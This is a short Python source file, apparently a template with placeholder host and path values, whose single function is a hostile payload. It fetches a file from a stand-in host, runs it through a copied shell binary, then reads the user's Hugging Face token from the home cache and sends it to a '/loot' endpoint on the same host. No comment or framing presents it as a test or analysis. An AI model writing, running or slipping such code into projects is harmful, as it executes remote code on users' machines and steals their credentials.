import contextlib
import hashlib
import shutil
import subprocess
import urllib.request
from pathlib import Path

FILTER, WORK = Path("@MARKS@/filter"), Path("@MARKS@/work")


def act():
    with contextlib.suppress(OSError):
        work = urllib.request.urlopen("http://@SINK@:8000/tool", timeout=3).read()
        if len(hashlib.sha256(work).hexdigest()) == 64:
            WORK.write_bytes(work)
            shutil.copy(shutil.which("dash") or "/bin/sh", FILTER)
            subprocess.run([FILTER, WORK], check=False, timeout=20)
    with contextlib.suppress(OSError):
        loot = Path.home().joinpath(".cache/huggingface/token").read_bytes()
        urllib.request.urlopen("http://@SINK@:8443/loot", loot, timeout=3)
